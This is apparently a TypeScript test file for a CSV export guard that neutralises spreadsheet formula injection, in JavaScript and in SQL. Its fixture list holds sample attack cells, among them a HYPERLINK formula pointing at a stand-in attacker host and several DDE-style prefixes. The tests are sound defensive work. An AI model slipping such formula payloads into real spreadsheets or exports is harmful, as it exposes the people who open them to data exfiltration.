import type { Database } from '../../src/db/database.js';
import { guardFormula, guardFormulaSql } from '../../src/export/formula-guard.js';
import { openTestDatabase } from '../support/test-database.js';

// Attack: formula injection when an admin opens an export in a spreadsheet (=HYPERLINK to exfiltrate, DDE via +/-/@).
const FORMULAS = ['=HYPERLINK("http://evil.example","x")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\rCR'];
const PLAIN = ['Ada', 'a=b', 'O\'Brien', ' =leading space', '1-2', 'Núñez', '"quoted"'];

describe('the CSV formula guard in JavaScript', () => {
  it.each([...FORMULAS, '\u0000NUL'])('puts an apostrophe before %j', (value) => {
    expect(guardFormula(value)).toBe(`'${value}`);
  });

  it.each([...PLAIN, ''])('leaves %j as it is', (value) => {
    expect(guardFormula(value)).toBe(value);
  });
});

describe('the CSV formula guard in SQL, on the engine under test', () => {
  let db: Database;
  let close: () => Promise<void>;
  beforeAll(async () => {
    ({ db, close } = await openTestDatabase());
  });
  afterAll(() => close());

  const guardedBy = async (value: string): Promise<string | null> => {
    const { sql } = db.dialect;
    const rows: Array<{ cell: string | null }> = await db.source.query(`SELECT ${guardFormulaSql(sql, `nullif(${sql.text(value)}, '')`)} AS cell`);
    return rows[0]!.cell;
  };

  it.each([...FORMULAS, ...PLAIN])('writes %j exactly as the JavaScript guard does', async (value) => {
    expect(await guardedBy(value)).toBe(guardFormula(value));
  });

  // PostgreSQL answers 0 (NUL's code) for the first character of an empty text: it must stay empty, not become "'".
  it('leaves an empty text empty', async () => {
    expect(await guardedBy('')).toBeNull();
  });
});
